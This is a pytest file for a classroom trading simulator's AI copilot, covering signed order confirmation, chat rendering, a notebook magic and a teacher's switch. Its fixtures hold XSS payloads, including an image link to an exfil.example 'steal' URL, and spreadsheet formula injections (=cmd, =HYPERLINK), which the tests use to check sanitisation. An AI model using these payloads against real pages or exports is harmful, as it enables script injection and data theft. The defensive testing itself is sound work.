"""The copilot's faces without a browser (issue 14): the confirm card read back from its bytes,
the browser signer's server side, the confirm path into the market's air-gap, the dashboard
chat, the notebook's confirm widget and ``%%copilot`` magic, and the class's switch and prompt log.

The model is :class:`~vtrade.runtime.scripted_model.ScriptedModelServer`: a scripted stand-in
(not a model) on 127.0.0.1, reached through the real ``openai`` client over HTTP. Where a test
plays the person's browser it signs with an Ed25519 key made in the test (the browser's role);
the notebook widget signs through the real signer subprocess and key store.
"""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output

from vtrade.classroom import ClassRules
from vtrade.copilot.intent import OrderIntent
from vtrade.copilot.signing import public_hex, sign
from vtrade.runtime.classroom import Classroom
from vtrade.runtime.copilot_service import CopilotSession
from vtrade.runtime.keystore import public_key as stored_public_key
from vtrade.runtime.live import LiveConfig, LiveMarket
from vtrade.runtime.live_session import LiveSession
from vtrade.runtime.model_client import ModelClient
from vtrade.runtime.scripted_model import Scripted, ScriptedModelServer, call, say, user_text
from vtrade.runtime.signer import sign_in_subprocess
from vtrade.ui.copilot_card import CardData, CardError, render_card_html
from vtrade.ui.copilot_chat import OFF_SENTENCE, ChatState, copilot_panel
from vtrade.ui.copilot_class import DeskSigning, TeacherCopilot, prompt_log_csv, prompt_log_frame, student_chat
from vtrade.ui.copilot_confirm import send_signed
from vtrade.ui.copilot_signer import BrowserKey, ProposalCard
from vtrade.ui.copilot_widget import ConfirmWidget

ROOT = Path(__file__).resolve().parent.parent
XSS = ("Look <img src=x onerror=\"window.__pwned=1\"> and [click](javascript:alert(1)) and "
       "![chart](http://exfil.example/steal?d=secret) <script>window.__pwned=2</script>")  # fmt: skip


class _Markup(HTMLParser):
    """The elements and attributes an HTML string really has (not what its text says)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(k, v or "") for k, v in attrs]


def dangerous(markup: str) -> list[str]:
    """What in ``markup`` would run or load something: scripts, images, frames, styles, event
    handlers, a ``src``, a link anywhere but http(s)."""
    p = _Markup()
    p.feed(markup)
    bad = [t for t in p.tags if t in ("script", "img", "iframe", "object", "embed", "style", "link", "svg", "video",
                                      "audio", "source", "input", "form", "meta", "base")]  # fmt: skip
    bad += [k for k, _ in p.attrs if k.startswith("on") or k in ("src", "srcset", "style", "background", "formaction")]
    bad += [v for k, v in p.attrs if k == "href" and not v.startswith(("http://", "https://"))]
    return bad


# ---------------------------------------------------------------------------- the scripted stand-in
def scripted_copilot(body: Mapping[str, Any]) -> Scripted:
    """The scripted stand-in's repertoire: a quote through the quote tool, "buy N SYMBOL" through
    propose_order, a reply full of markup when asked for it, and what a tool returned."""
    last = body["messages"][-1]
    if last.get("role") == "tool":
        data = json.loads(last["content"]) if last["content"].startswith("{") else {}
        found = data.get("result", data) if isinstance(data, dict) else {}
        if isinstance(found, dict) and "bid" in found:
            return say(f"**{found['symbol']}** is bid ${found['bid']:.2f}, ask ${found['ask']:.2f}.")
        return say("I proposed the order below. Nothing happens unless **you** confirm it.")
    question = user_text(body).lower()
    if "markup" in question:
        return say(XSS)
    if "quote" in question:
        return call("quote", {"symbol": "AAPL"})
    if m := re.search(r"buy (\d+) ([a-z]+)", question):
        return call("propose_order", {"symbol": m[2].upper(), "side": "buy", "quantity": int(m[1]),
                                      "order_type": "market", "limit_price": None, "tif": "day"})  # fmt: skip
    return say("I can look up quotes and propose orders for you to confirm.")


@pytest.fixture(scope="module")
def model() -> Iterator[ScriptedModelServer]:
    with ScriptedModelServer(scripted_copilot) as server:
        yield server


@pytest.fixture
def market() -> Iterator[LiveMarket]:
    m = LiveMarket(LiveConfig(symbols=("AAPL",), speed=0, bots=False, burn_in=20_000))
    m.open_account("ann")
    m.advance(2)
    yield m
    m.close()


def intent(account: str = "ann", *, expires_ns: int | None = None, quantity: int = 10) -> OrderIntent:
    return OrderIntent.make(proposal_id="p-1", account=account, symbol="AAPL", side="buy", quantity=quantity,
                            order_type="market", limit_price=None, tif="day", nonce=os.urandom(16).hex(),
                            expires_ns=expires_ns or time.time_ns() + 60 * 10**9)  # fmt: skip


def session(market: LiveMarket, model: ScriptedModelServer, account: str = "ann") -> CopilotSession:
    client = ModelClient(base_url=model.base_url, environ={})
    return CopilotSession(market, account, client=client)  # audited on the market's log by default


def chat_for(market: LiveMarket, model: ScriptedModelServer) -> ChatState:
    return ChatState(market, "ann", session=lambda: session(market, model))


def filled(market: LiveMarket, account: str = "ann") -> float:
    for _ in range(20):
        fills = market.fills(account)
        if not fills.empty:
            return float(fills.quantity.sum())
        market.advance(1)
    return 0.0


# ---------------------------------------------------------------------------- the card
def test_a_card_is_made_only_from_canonical_bytes_that_hash_to_its_digest() -> None:
    i = intent()
    card = CardData.from_bytes(i.canonical(), i.digest)
    assert card.canonical == i.canonical().decode() and card.intent == i
    assert card.summary == "BUY 10 AAPL · market · day"
    for canonical, digest, words in (
        (i.canonical(), "0" * 64, "digest does not match"),
        (i.canonical().replace(b",", b", "), i.digest, "not in canonical form"),
        (b'{"buy": "everything"}', i.digest, "not a valid order intent"),
        (b"\xff", i.digest, "not a valid order intent"),
    ):
        with pytest.raises(CardError, match=words):
            CardData.from_bytes(canonical, digest)
    with pytest.raises(CardError, match="must be bytes"):
        CardData.from_bytes(i.canonical().decode(), i.digest)  # type: ignore[arg-type]


def test_the_card_shows_bytes_digest_and_warnings_as_text() -> None:
    i = intent()
    card = CardData.from_bytes(i.canonical(), i.digest, flags=("<img src=x onerror=alert(1)>",),
                               provenance={"symbol": "tool", "side": "user", "quantity": "model"})  # fmt: skip
    out = render_card_html(card)
    assert "<img" not in out and "&lt;img src=x onerror=alert(1)&gt;" in out
    assert i.digest in out and i.canonical().decode().replace('"', "&quot;") in out
    assert card.flagged and "Check this order" in out and "vt-flagged" in out
    assert [f for f, _ in card.provenance] == ["symbol", "side", "quantity"]  # read as an order reads
    plain = CardData.from_bytes(i.canonical(), i.digest, provenance={"symbol": "user"})
    assert not plain.flagged and "Check this order" not in render_card_html(plain)


# ---------------------------------------------------------------------------- the browser signer's server side
def _card(confirmed: list[tuple[str, str]], *, fail: bool = False) -> tuple[ProposalCard, OrderIntent]:
    i = intent()

    def confirm(card: ProposalCard, sig: str, key: str) -> tuple[bool, str]:
        confirmed.append((sig, key))
        if fail:
            raise RuntimeError("the market went away")
        return True, "Sent to the exchange as ann-1"

    return ProposalCard.of(CardData.from_bytes(i.canonical(), i.digest), confirm=confirm), i


def test_a_card_acts_only_on_a_well_formed_confirmation_of_its_own_bytes() -> None:
    confirmed: list[tuple[str, str]] = []
    card, i = _card(confirmed)
    good = {"action": "confirm", "digest": i.digest, "signature": "ab" * 64, "public_key": "cd" * 32}
    for bad in ("confirm", ["confirm"], None, {**good, "digest": "0" * 64}, {**good, "signature": "ab" * 63},
                {**good, "signature": "AB" * 64}, {**good, "public_key": 7}, {**good, "action": "execute"},
                {k: v for k, v in good.items() if k != "signature"}):  # fmt: skip
        card._handle_msg(bad)
    assert card.status == "pending" and not confirmed
    card._handle_msg(good)
    card._handle_msg(good)  # a second click (or a replayed message) does nothing more
    assert card.status == "sent" and card.outcome == "Sent to the exchange as ann-1" and len(confirmed) == 1

    rejected, _ = _card(confirmed)
    rejected._handle_msg({"action": "reject"})
    rejected._handle_msg(good | {"digest": rejected.digest})
    assert rejected.status == "rejected" and len(confirmed) == 1

    failing, j = _card([], fail=True)
    failing._handle_msg(good | {"digest": j.digest})
    assert failing.status == "refused" and failing.outcome == "Not sent: the market went away"

    blind, _ = _card(confirmed)
    blind._handle_msg({"action": "unsupported", "reason": "no <b>WebCrypto</b>\n" + "x" * 1000})
    assert blind.status == "unsupported" and len(blind.outcome) <= 400 and "\n" not in blind.outcome


def test_the_browser_key_registers_only_a_public_key() -> None:
    got: list[str] = []
    key = BrowserKey(account="ann", register=lambda k: got.append(k) is None)
    for bad in ({"action": "key", "public_key": "xyz"}, {"action": "key", "public_key": "AB" * 32}, {"action": "key"},
                "key"):  # fmt: skip
        key._handle_msg(bad)
    assert not got and not key.public_key
    key._handle_msg({"action": "key", "public_key": "cd" * 32})
    assert got == ["cd" * 32] and key.public_key == "cd" * 32


# ---------------------------------------------------------------------------- the confirm path
def test_a_confirmed_intent_trades_and_is_audited_with_its_digest(market: LiveMarket) -> None:
    browser = Ed25519PrivateKey.generate()  # the person's side
    i = intent()
    ok, text = send_signed(market, "ann", i.canonical().decode(), sign(browser, i.canonical()), public_hex(browser))
    assert ok and text.startswith("Sent to the exchange as ann-")
    assert filled(market) == 10
    log = market.copilot_log("ann")
    assert {"IntentConfirmed", "IntentExecuted"} <= set(log.type) and set(log.digest.dropna()) == {i.digest}


def test_a_bad_signature_is_refused_and_nothing_trades(market: LiveMarket) -> None:
    browser, other = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
    i = intent()
    ok, text = send_signed(market, "ann", i.canonical().decode(), sign(other, i.canonical()), public_hex(browser))
    assert not ok and text.startswith("Refused:") and "signature" in text
    assert filled(market) == 0 and market.orders("ann").empty


# ---------------------------------------------------------------------------- the dashboard chat
def test_the_chat_answers_through_the_tools_and_shows_proposals(market: LiveMarket, model: ScriptedModelServer) -> None:
    chat = chat_for(market, model)
    chat.ask_now("What is the quote for AAPL?")
    you, answer = chat.entries
    assert you.role == "you" and answer.role == "copilot" and answer.tools == ("quote",)
    assert "<strong>AAPL</strong> is bid $" in answer.html
    chat.ask_now("Buy 10 AAPL please")
    (card,) = chat.entries[-1].cards
    assert card.summary == "BUY 10 AAPL · market · day" and card.intent.account == "ann"
    assert market.orders("ann").empty  # a proposal is not an order

    # The panel shows it as a card; the person's browser signs, the market trades.
    panel = copilot_panel(chat)
    (shown,) = [v for v in panel.select(ProposalCard)]
    browser = Ed25519PrivateKey.generate()
    shown._handle_msg({"action": "confirm", "digest": card.digest, "signature": sign(browser, card.canonical.encode()),
                       "public_key": public_hex(browser)})  # fmt: skip
    assert shown.status == "sent", shown.outcome
    assert filled(market) == 10
    types = market.copilot_log("ann").type.tolist()
    assert types.count("CopilotAsked") == 2 and "ProposalMade" in types and "IntentExecuted" in types


def test_the_chat_never_passes_the_models_markup(market: LiveMarket, model: ScriptedModelServer) -> None:
    chat = chat_for(market, model)
    chat.ask_now("show me some markup")
    shown = chat.entries[-1].html
    assert dangerous(shown) == [], shown
    assert "&lt;img" in shown and "[image: chart]" in shown  # the words are there, as text
    panel = copilot_panel(chat)
    panes = [p for p in panel.select(lambda o: hasattr(o, "object") and isinstance(o.object, str))]
    assert panes and all(dangerous(p.object) == [] for p in panes)


def test_the_chat_says_when_the_teacher_switched_the_copilot_off(market: LiveMarket,
                                                                 model: ScriptedModelServer) -> None:  # fmt: skip
    before = len(model.requests)
    on = {"now": False}
    client = ModelClient(base_url=model.base_url, environ={})
    chat = ChatState(market, "ann", enabled=lambda: on["now"],
                     session=lambda: CopilotSession(market, "ann", client=client,
                                                    enabled=lambda: None if on["now"] else OFF_SENTENCE))  # fmt: skip
    assert chat.notice == OFF_SENTENCE
    chat.ask_now("What is the quote for AAPL?")
    assert chat.entries[-1].role == "notice" and "switched the copilot off" in chat.entries[-1].html
    assert len(model.requests) == before  # no model call
    on["now"] = True
    chat.check()
    assert chat.notice == ""
    chat.ask_now("What is the quote for AAPL?")
    assert chat.entries[-1].role == "copilot"


def test_without_a_key_the_chat_says_how_to_set_one(market: LiveMarket, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    chat = ChatState(market, "ann", session=lambda: CopilotSession(market, "ann"))
    chat.ask_now("hello")
    assert chat.entries[-1].role == "notice" and "OPENAI_API_KEY" in chat.entries[-1].html


def test_blank_and_overlong_questions_go_nowhere(market: LiveMarket, model: ScriptedModelServer) -> None:
    before = len(model.requests)
    chat = chat_for(market, model)
    for blank in ("", "   ", None, 42):
        chat.ask_now(blank)
    assert chat.entries == []
    chat.ask_now("x" * 5000)
    assert [e.role for e in chat.entries] == ["notice"] and "at most" in chat.entries[0].html
    assert len(model.requests) == before


# ---------------------------------------------------------------------------- the notebook widget
def widget_for(card: CardData, market: LiveMarket, key_dir: Path) -> ConfirmWidget:
    account = card.intent.account
    return ConfirmWidget(card, market=market, sign=lambda i: sign_in_subprocess(i, account, key_dir=key_dir),
                         public_key=lambda: stored_public_key(account, key_dir=key_dir))  # fmt: skip


def test_the_widget_signs_in_the_signer_subprocess_and_trades(market: LiveMarket, tmp_path: Path) -> None:
    i = intent()
    w = widget_for(CardData.from_bytes(i.canonical(), i.digest), market, tmp_path / "keys")
    assert i.digest in w.body.value and w.confirm.description == "Confirm and sign"
    w.confirm.click()
    assert w.status == "sent", w.outcome
    w.confirm.click()  # disabled in the frontend; and a second call does nothing either
    assert filled(market) == 10 and len(market.orders("ann")) == 1
    assert "✓ Sent to the exchange" in w.body.value and w.confirm.disabled and w.reject.disabled
    assert "BUY 10 AAPL" in repr(w)


def test_rejecting_in_the_widget_sends_nothing(market: LiveMarket, tmp_path: Path) -> None:
    i = intent()
    w = widget_for(CardData.from_bytes(i.canonical(), i.digest), market, tmp_path / "keys")
    w.reject.click()
    w.confirm.click()
    assert w.status == "rejected" and market.orders("ann").empty and filled(market) == 0
    assert "IntentConfirmed" not in set(market.copilot_log("ann").type)


def test_an_expired_intent_is_not_sent(market: LiveMarket, tmp_path: Path) -> None:
    i = intent(expires_ns=time.time_ns() - 10**9)
    w = widget_for(CardData.from_bytes(i.canonical(), i.digest), market, tmp_path / "keys")
    w.confirm.click()
    assert w.status in ("failed", "refused") and "expired" in w.outcome
    assert market.orders("ann").empty


# ---------------------------------------------------------------------------- the magic
@pytest.fixture
def shell(market: LiveMarket, model: ScriptedModelServer, tmp_path: Path) -> Iterator[InteractiveShell]:
    ip = InteractiveShell.instance()  # one per process: a fresh extension (settings, binding) per test
    ip.run_line_magic("reload_ext", "vtrade")
    ip.user_ns["s"] = LiveSession(market, "ann", attach=True)
    ip.run_line_magic("config", f"Copilot.base_url = {model.base_url!r}")
    ip.run_line_magic("config", f"Copilot.key_dir = {str(tmp_path / 'keys')!r}")
    yield ip
    ip.run_line_magic("config", "Copilot.base_url = ''")
    ip.run_line_magic("config", "Copilot.key_dir = ''")
    ip.user_ns.pop("s", None)


def _magic(ip: InteractiveShell, line: str, cell: str | None = None) -> tuple[Any, Any]:
    with capture_output() as out:
        result = ip.run_cell_magic("copilot", line, cell) if cell is not None else ip.run_line_magic("copilot", line)
    return result, out


def test_the_magic_asks_the_cell_verbatim_and_answers_richly(shell: InteractiveShell,
                                                             model: ScriptedModelServer) -> None:  # fmt: skip
    shell.user_ns["x"] = "SECRET-VARIABLE"
    _magic(shell, "use s")
    _, out = _magic(shell, "", "What is the quote for AAPL? {x} $x")
    question = user_text(model.requests[-1]) if model.requests[-1]["messages"][-1]["role"] == "user" else \
        user_text(model.requests[-2])  # fmt: skip
    assert "{x} $x" in question and "SECRET-VARIABLE" not in json.dumps(model.requests[-2:])
    (shown,) = [o for o in out.outputs if "text/html" in o.data]
    assert "<strong>AAPL</strong> is bid" in shown.data["text/html"]
    info = shown.data["application/json"]
    assert info["tools"] == ["quote"] and info["proposals"] == [] and info["account"] == "ann"
    assert shown.metadata["vtrade"]["copilot"] == info
    assert not out.stderr


def test_a_proposal_in_the_notebook_is_a_confirm_widget(shell: InteractiveShell, market: LiveMarket) -> None:
    _magic(shell, "use s")
    _, out = _magic(shell, "", "buy 10 AAPL")
    assert market.orders("ann").empty  # showing never executes
    (shown,) = [o for o in out.outputs if "application/json" in o.data]
    (p,) = shown.data["application/json"]["proposals"]
    assert p["flags"] == [] and set(p["provenance"].values()) == {"user"} and len(p["digest"]) == 64
    widgets = [o for o in out.outputs if "application/vnd.jupyter.widget-view+json" in o.data]
    assert len(widgets) == 1 and "BUY 10 AAPL" in widgets[0].data["text/plain"]
    answer, _ = _magic(shell, "last")
    (w,) = answer.widgets
    assert w.card.digest == p["digest"] and w.card.canonical == p["canonical"]
    w.confirm.click()  # in real use the person clicks it
    assert w.status == "sent", w.outcome
    assert filled(market) == 10


def test_the_magic_renders_the_models_markup_as_text(shell: InteractiveShell) -> None:
    _magic(shell, "use s")
    _, out = _magic(shell, "", "show me some markup")
    (shown,) = [o for o in out.outputs if "text/html" in o.data]
    assert dangerous(shown.data["text/html"]) == [] and "&lt;script&gt;" in shown.data["text/html"]


def test_magic_errors_are_one_line_on_stderr(shell: InteractiveShell) -> None:
    shell.user_ns["n"] = 3
    for line, cell, words in (("bogus", None, "unknown subcommand 'bogus'"),
                              ("use nothing_here", None, "no variable 'nothing_here'"),
                              ("use n", None, "is a int, not a live session"),
                              ("use s bob", None, "no account 'bob'"),
                              ("last", None, "no answer yet"),
                              ("--model x", "hi", "takes no arguments"),
                              ("", "   ", "the cell is empty")):  # fmt: skip
        _, out = _magic(shell, line, cell)
        lines = out.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("copilot: ") and words in lines[0], out.stderr
        assert "Traceback" not in out.stderr and not out.outputs


def test_the_magic_binds_the_only_live_session_or_says_how(shell: InteractiveShell) -> None:
    _, out = _magic(shell, "", "hello")
    assert "using live session s" in out.stdout and not out.stderr
    shell.user_ns["t"] = LiveSession(shell.user_ns["s"].market, "bob")
    shell.run_line_magic("reload_ext", "vtrade")  # a fresh magic, nothing bound
    _, out = _magic(shell, "", "hello")
    assert "no live session to talk about" in out.stderr and "%copilot use s" in out.stderr


def test_settings_go_through_the_config_system_and_keys_only_through_the_environment(
    shell: InteractiveShell, caplog: pytest.LogCaptureFixture,
) -> None:
    from vtrade.notebook_magic import Copilot

    (settings,) = [c for c in shell.configurables if isinstance(c, Copilot)]
    shell.run_line_magic("config", 'Copilot.mode = "json"')
    shell.run_line_magic("config", 'Copilot.model = "llama3.2"')
    assert (settings.mode, settings.model) == ("json", "llama3.2")
    with caplog.at_level(logging.ERROR):
        shell.run_line_magic("config", 'Copilot.mode = "telepathy"')  # IPython logs the trait's refusal
    assert settings.mode == "json" and "telepathy" in caplog.text
    assert not any("key" in t and t != "key_dir" for t in settings.trait_names(config=True))
    _, out = _magic(shell, "model")
    assert "llama3.2" in out.stdout and "OPENAI_API_KEY" in out.stdout
    shell.run_line_magic("config", 'Copilot.mode = "tools"')
    shell.run_line_magic("config", 'Copilot.model = ""')


def test_import_vtrade_stays_light() -> None:
    code = ("import sys, vtrade; assert callable(vtrade.load_ipython_extension); "
            "print(sorted(m for m in ('pandas', 'panel', 'ipywidgets', 'openai') if m in sys.modules))")  # fmt: skip
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)
    assert out.stdout.strip() == "[]"


# ---------------------------------------------------------------------------- a class
@pytest.fixture
def room() -> Iterator[Classroom]:
    r = Classroom(market_overrides={"burn_in": 20_000})
    yield r
    r.close()


def test_the_teachers_switch_reaches_the_students_chat_and_the_prompt_log_shows_questions(
    room: Classroom, model: ScriptedModelServer,
) -> None:
    from vtrade.ui.classroom import TeacherState

    teacher = room.teacher(room.teacher_secret)
    cid = teacher.create_class("Econ", ClassRules(market="synthetic"))
    teacher.open_registration(cid)
    desk = room.student(room.join(room.state(cid).join_code, "=HYPERLINK(\"http://evil\")").token)
    teacher.start(cid)
    market = room.market(cid)
    assert market is not None
    state = TeacherState(room, teacher)
    copilot = TeacherCopilot(state)
    assert copilot.enabled

    os.environ["OPENAI_BASE_URL"] = model.base_url
    try:
        chat = student_chat(desk, market)
        chat.ask_now("=cmd|' /C calc'!A0 what is the quote for AAPL?")
        assert chat.entries[-1].role == "copilot"
        copilot.switch(False)
        assert not room.copilot_enabled(cid) and not copilot.enabled
        assert state.messages["copilot"][0]
        chat.check()
        assert chat.notice == OFF_SENTENCE
        chat.ask_now("buy 10 AAPL")
        assert chat.entries[-1].role == "notice" and not chat.entries[-1].cards
    finally:
        del os.environ["OPENAI_BASE_URL"]
    copilot.refresh()
    shown = copilot.prompts
    assert shown.type.tolist()[:2] == ["answered", "asked"]  # newest first
    assert shown.name.iloc[0] == "=HYPERLINK(\"http://evil\")"
    csv = prompt_log_csv(room.prompt_log(cid)).decode("utf-8-sig")
    assert "'=cmd" in csv and "'=HYPERLINK" in csv  # formulas neutralised in the export
    assert len(prompt_log_frame(room.prompt_log(cid))) == len(room.prompt_log(cid))


def test_a_students_chat_acts_for_their_own_account_only(room: Classroom) -> None:
    teacher = room.teacher(room.teacher_secret)
    cid = teacher.create_class("Econ", ClassRules(market="synthetic"))
    teacher.open_registration(cid)
    desk = room.student(room.join(room.state(cid).join_code, "Ada").token)
    teacher.start(cid)
    signing = DeskSigning(desk)
    i = intent(account="somebody-else")
    with pytest.raises(ValueError, match="own account"):
        signing.submit_signed("somebody-else", i.canonical().decode(), "ab" * 64, "cd" * 32)
    with pytest.raises(ValueError, match="own account"):
        signing.register_key("somebody-else", "cd" * 32)
